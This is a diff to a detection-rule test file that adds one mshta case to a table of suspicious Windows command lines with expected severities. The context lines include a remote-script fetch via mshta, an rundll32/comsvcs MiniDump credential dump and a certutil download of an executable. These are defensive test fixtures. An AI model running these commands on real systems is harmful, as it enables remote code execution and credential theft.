@@ -64,6 +64,7 @@ describe.each(ENGINES)("script-host-abuse: $name", (engine) => {
     ["mshta.exe", 'mshta javascript:a=GetObject("script:https://example.org/x").Exec()', "medium"],
     ["rundll32.exe", "rundll32.exe C:\\Users\\Public\\photo.jpg,Start", "high"],
     ["rundll32.exe", "rundll32 C:\\windows\\system32\\comsvcs.dll, MiniDump 700 C:\\out.bin full", "high"],
+    ["mshta.exe", "C:\\Windows\\System32\\mshta.exe -Embedding", "medium"],
     ["certutil.exe", "certutil -urlcache -split -f http://example.org/a.txt a.exe", "medium"],
   ])("%s: %s is %s", async (image, command, expected) => {
     const { findings } = await run([ran(SYSTEM32 + image, command, `${SYSTEM32}cmd.exe`)]);
